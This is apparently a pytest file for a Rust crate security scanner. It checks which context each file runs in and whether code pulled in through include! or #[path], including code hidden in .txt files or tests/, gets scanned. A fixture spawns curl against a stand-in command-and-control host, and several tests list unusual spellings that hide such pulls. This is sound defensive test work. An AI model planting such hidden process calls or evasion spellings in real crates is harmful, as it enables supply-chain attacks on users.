"""Which context each file of a crate runs in: build script and what it pulls in, proc-macro,
library, or code never built for a dependent."""

from __future__ import annotations

import re

import pytest

from mirror.errors import ArchiveError
from mirror.scan import modules
from mirror.scan.archive import ArchiveLimits
from mirror.scan.capabilities import (
    Capability,
    CapabilityReport,
    Evidence,
    Finding,
    scan_crate,
)
from mirror.scan.crate_scan import MAX_PULL_PASSES
from mirror.scan.findings import context_of
from mirror.scan.report import Context
from tests.unit.scan.test_capabilities import make_crate

C = Context


DEFAULT_LIMITS = ArchiveLimits()
# Every `.rs` file read in a second pass over the archive instead of kept from the first.
NOTHING_KEPT = ArchiveLimits(max_kept_bytes=1)


def scan(
    files: dict[str, str | bytes], manifest: str = "", limits: ArchiveLimits = DEFAULT_LIMITS
) -> CapabilityReport:
    return scan_crate(make_crate(files, manifest=manifest), limits)


CURL = 'pub fn run() { std::process::Command::new("curl").arg("https://c2.invalid/x"); }\n'


def process_files(report: CapabilityReport) -> set[str]:
    return {e.file for e in report.capabilities.get(Capability.PROCESS, ())}


def test_implicit_build_script_library_and_tests() -> None:
    """build.rs builds; src/ runs; tests/, examples/, benches/ are never built for a user."""
    report = scan({"build.rs": "fn main() {}\n", "src/lib.rs": "", "tests/t.rs": ""})
    assert report.build_script == "build.rs" and report.proc_macro is False
    assert [context_of(report, f) for f in ("build.rs", "src/lib.rs", "src/a/b.rs")] == [
        C.BUILD,
        C.RUNTIME,
        C.RUNTIME,
    ]
    assert [context_of(report, f) for f in ("tests/t.rs", "examples/e.rs", "benches/b.rs")] == [
        C.OTHER
    ] * 3
    # A .rs file no target claims could be pulled in with #[path]: assume it runs.
    assert context_of(report, "lib.rs") is C.RUNTIME


def test_no_build_script_when_disabled() -> None:
    """`build = false`: build.rs is not run by cargo."""
    report = scan({"build.rs": "fn main() {}\n", "src/lib.rs": ""}, manifest="build = false\n")
    assert report.build_script is None
    assert context_of(report, "build.rs") is C.RUNTIME


def test_build_script_in_a_directory_takes_the_directory() -> None:
    """`package.build = "build/main.rs"`: everything under build/ is build code."""
    report = scan(
        {"build/main.rs": "fn main() {}\n", "build/extra/x.rs": "", "src/lib.rs": ""},
        manifest='build = "build/main.rs"\n',
    )
    assert report.build_script == "build/main.rs"
    assert context_of(report, "build/extra/x.rs") is C.BUILD
    assert context_of(report, "src/lib.rs") is C.RUNTIME


def test_files_a_root_build_script_pulls_in() -> None:
    """`mod x;`, `#[path = ".."] mod y;` and `include!("..")` from build.rs, and what those
    pull in in turn, run at build time, wherever they live."""
    report = scan(
        {
            "build.rs": (
                "mod helper;\n"
                '#[path = "src/shared.rs"]\n#[allow(dead_code)]\nmod shared;\n'
                'include!("gen/tables.rs");\n'
                "fn main() {}\n"
            ),
            "helper.rs": "mod deeper;\n",
            "helper/deeper.rs": "",
            "src/shared.rs": "",
            "gen/tables.rs": "",
            "src/lib.rs": "// mod unused;\n",
            "src/other.rs": "",
        }
    )
    assert report.pulled_in == {
        "helper.rs": C.BUILD,
        "helper/deeper.rs": C.BUILD,
        "src/shared.rs": C.BUILD,
        "gen/tables.rs": C.BUILD,
    }
    assert context_of(report, "src/other.rs") is C.RUNTIME


def test_proc_macro_code_runs_in_the_compiler() -> None:
    report = scan({"src/lib.rs": "", "src/inner.rs": ""}, manifest="[lib]\nproc-macro = true\n")
    assert report.proc_macro is True
    assert context_of(report, "src/inner.rs") is C.MACRO


@pytest.mark.parametrize("proc_macro", [False, True])
def test_test_files_pulled_into_built_code_run_where_it_does(proc_macro: bool) -> None:
    """Hiding code in tests/ and pulling it into the library with #[path] (then include!
    from there) does not make it `other`."""
    manifest = "[lib]\nproc-macro = true\n" if proc_macro else ""
    report = scan(
        {
            "src/lib.rs": '#[path = "../tests/support/mod.rs"]\nmod support;\n',
            "tests/support/mod.rs": 'include!("../data/payload.rs");\n',
            "tests/data/payload.rs": "",
            "tests/other.rs": '#[path = "data/unused.rs"]\nmod unused;\n',
            "tests/data/unused.rs": "",
        },
        manifest=manifest,
    )
    library = C.MACRO if proc_macro else C.RUNTIME
    assert report.pulled_in == {"tests/support/mod.rs": library, "tests/data/payload.rs": library}
    assert context_of(report, "tests/data/unused.rs") is C.OTHER


def test_paths_leaving_the_crate_pull_in_nothing() -> None:
    report = scan(
        {"build.rs": 'include!("../../etc/x.rs");\nmod a;\nfn main() {}\n', "src/lib.rs": ""}
    )
    assert report.pulled_in == {}


@pytest.mark.parametrize("limits", [DEFAULT_LIMITS, NOTHING_KEPT], ids=["kept", "read-again"])
def test_files_pulled_in_under_any_name_are_read_as_rust(limits: ArchiveLimits) -> None:
    """`include!("payload.txt")` and `#[path = "x.dat"] mod x;` compile those files as Rust:
    they are scanned as Rust, in the context of what pulls them in. (Only `.rs` files were
    read before: code hidden in a `.txt` file was never seen.)"""
    report = scan(
        {
            "build.rs": '#[path = "tools/gen.dat"]\nmod gen;\nfn main() {}\n',
            "tools/gen.dat": 'pub const U: &str = "https://build.invalid/p";\n',
            "src/lib.rs": 'include!("../data/payload.txt");\n',
            "data/payload.txt": CURL,
        },
        limits=limits,
    )
    process = report.capabilities[Capability.PROCESS]
    assert process == (Evidence("data/payload.txt", 1, "std::process::Command::new"),)
    urls = {(context_of(report, e.file), e.file) for e in report.findings[Finding.URL]}
    assert urls == {(C.BUILD, "tools/gen.dat"), (C.RUNTIME, "data/payload.txt")}
    assert report.pulled_in == {"tools/gen.dat": C.BUILD}


@pytest.mark.parametrize("limits", [DEFAULT_LIMITS, NOTHING_KEPT], ids=["kept", "read-again"])
def test_chains_of_pulled_in_files_are_followed(limits: ArchiveLimits) -> None:
    """A pulled-in `.txt` that pulls in another file in turn (paths relative to the file
    holding the `include!`, as rustc resolves them): every file of the chain is read, in the
    context of the code at its head, also when the chain runs through tests/."""
    report = scan(
        {
            "build.rs": 'include!("gen/a.in");\nfn main() {}\n',
            "gen/a.in": '#[path = "deeper/b.dat"]\nmod b;\n',
            "gen/deeper/b.dat": 'include!("../../c.txt");\n',
            "c.txt": 'const U: &str = "https://build.invalid/c";\n',
            "src/lib.rs": 'include!("../tests/data/one.txt");\n',
            "tests/data/one.txt": 'include!("two.txt");\n',
            "tests/data/two.txt": CURL,
        },
        limits=limits,
    )
    assert report.pulled_in == {
        "gen/a.in": C.BUILD,
        "gen/deeper/b.dat": C.BUILD,
        "c.txt": C.BUILD,
        "tests/data/one.txt": C.RUNTIME,
        "tests/data/two.txt": C.RUNTIME,
    }
    urls = {(context_of(report, e.file), e.file) for e in report.findings[Finding.URL]}
    assert urls == {(C.BUILD, "c.txt"), (C.RUNTIME, "tests/data/two.txt")}
    assert process_files(report) == {"tests/data/two.txt"}


def test_files_pulling_each_other_in_are_read_once() -> None:
    """`a.txt` includes `b.txt`, which includes `a.txt` (rustc would recurse until its own
    limit): the scan reads each once and ends."""
    report = scan(
        {
            "src/lib.rs": 'include!("a.txt");\n',
            "src/a.txt": 'include!("b.txt");\n' + CURL,
            "src/b.txt": 'include!("a.txt");\n' + CURL.replace("run", "go"),
        }
    )
    evidence = report.capabilities[Capability.PROCESS]
    assert sorted({(e.file, e.line) for e in evidence}) == [("src/a.txt", 2), ("src/b.txt", 2)]


@pytest.mark.parametrize("head", ["src/lib.rs", "build.rs"])
def test_a_chain_longer_than_the_limit_is_refused(head: str) -> None:
    """Each level of a chain of pulled-in files costs one more inflation of the whole
    archive: a chain deeper than the limit is refused (fail closed), not read in part."""

    where = "src/" if head.startswith("src/") else ""

    def chain(files_in_chain: int) -> dict[str, str | bytes]:
        files: dict[str, str | bytes] = {head: 'include!("p1.txt");\nfn main() {}\n'}
        for i in range(1, files_in_chain):
            files[f"{where}p{i}.txt"] = f'include!("p{i + 1}.txt");\n'
        files[f"{where}p{files_in_chain}.txt"] = CURL
        return files

    # One pass per file of the chain (p1 .. pN): each is found only once the one before is read.
    deepest = scan(chain(MAX_PULL_PASSES))
    assert {e.file for e in deepest.findings[Finding.URL]} == {f"{where}p{MAX_PULL_PASSES}.txt"}
    with pytest.raises(ArchiveError, match="levels deep"):
        scan(chain(MAX_PULL_PASSES + 1))


def test_files_not_pulled_in_are_not_read_as_rust() -> None:
    """Only the files something pulls in are read: another `.txt` holding the same code is
    data (READMEs, fixtures) and is not scanned."""
    report = scan(
        {
            "src/lib.rs": 'include!("pulled.txt");\n',
            "src/pulled.txt": CURL,
            "src/unused.txt": CURL,
            "tests/data/fixture.dat": CURL,
        }
    )
    assert process_files(report) == {"src/pulled.txt"}


def test_pulled_paths_leaving_the_crate_still_pull_in_nothing() -> None:
    """`include!` of a path leaving the crate root names a file outside this archive (even if
    the rest of the path matches a file inside it): nothing is pulled in from it."""
    report = scan(
        {
            "build.rs": 'include!("../elsewhere/gen/out.txt");\nfn main() {}\n',
            "gen/out.txt": CURL,
            "src/lib.rs": 'include!("../../x/in.txt");\ninclude!("in.txt");\n',
            "src/in.txt": CURL,
            "x/in.txt": CURL,
        }
    )
    assert report.pulled_in == {}
    assert process_files(report) == {"src/in.txt"}


@pytest.mark.parametrize(
    "pull",
    [
        'include ! ("p.txt");',
        'include!\n    ("p.txt");',
        'include!{"p.txt"}',
        'include!["p.txt"];',
        'include!(r"p.txt");',
        'include!(r#"p.txt"#);',
        'include!(concat!(env!("CARGO_MANIFEST_DIR"), "/src/p.txt"));',
        'include!(concat! { env! ["CARGO_MANIFEST_DIR"], "/src/p.txt" });',
        '#[path = r"p.txt"]\nmod p;',
        '#[path=\n"p.txt"]\nmod p;',
        '#[cfg_attr(all(), path = "p.txt")]\nmod p;',
        '#[cfg_attr(\n    all(),\n    path = "p.txt"\n)]\nmod p;',
        pytest.param(
            f"#[cfg_attr(any({', '.join(f'feature = {chr(34)}f{i}{chr(34)}' for i in range(99))}),"
            ' path = "p.txt")]\n#[allow(unused)]\n/// docs\npub(crate) mod p;',
            id="long-cfg_attr",
        ),
    ],
)
def test_every_spelling_rustc_accepts_pulls_the_file_in(pull: str) -> None:
    """Whitespace around `!`, any delimiter, raw strings and `cfg_attr(.., path = ..)` all
    compile (checked with rustc): each spelling of the pull is followed, or the payload would
    hide again behind an unusual one."""
    report = scan({"src/lib.rs": pull + "\n", "src/p.txt": CURL})
    assert process_files(report) == {"src/p.txt"}


def test_a_path_not_on_a_module_pulls_in_nothing() -> None:
    """`path = ".."` outside an attribute of a `mod x;` (a variable, an attribute of another
    item) is not a pull."""
    report = scan(
        {
            "src/lib.rs": (
                'fn f() { let path = "p.txt"; }\n#[path = "q.txt"]\nfn g() {}\nmod r;\n'
                '#[path = "s.txt"] struct S; mod t;\n'
            ),
            "src/p.txt": CURL,
            "src/q.txt": CURL,
            "src/s.txt": CURL,
        }
    )
    assert process_files(report) == set()


class _Counting:
    """A compiled pattern that counts its searches."""

    def __init__(self, pattern: re.Pattern[bytes]) -> None:
        self.pattern, self.calls = pattern, 0

    def search(self, source: bytes, *bounds: int) -> re.Match[bytes] | None:
        self.calls += 1
        return self.pattern.search(source, *bounds)


def test_pulls_are_found_in_one_pass_over_the_file(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file of thousands of `#[path = ..]`: each attribute was followed to the next `;`
    anew (28 s of CPU for 130 KB, a scan held for minutes by a larger file). Counted, not
    timed: the stretch up to a `;` is searched once, however many attributes precede it."""
    stops = _Counting(modules._STOP)
    monkeypatch.setattr(modules, "_STOP", stops)
    source = b'#[path = "x"]\n' * 10_000 + b"mod x;\n"
    assert set(modules.pulled_files("src/lib.rs", source, is_root=True, mods=False)) == {"src/x"}
    assert stops.calls == 1
    stops.calls = 0
    assert not set(modules.pulled_files("src/lib.rs", b'#[path = "x"]' * 10_000, is_root=True))
    assert stops.calls == 1  # no `;` at all: one search says so
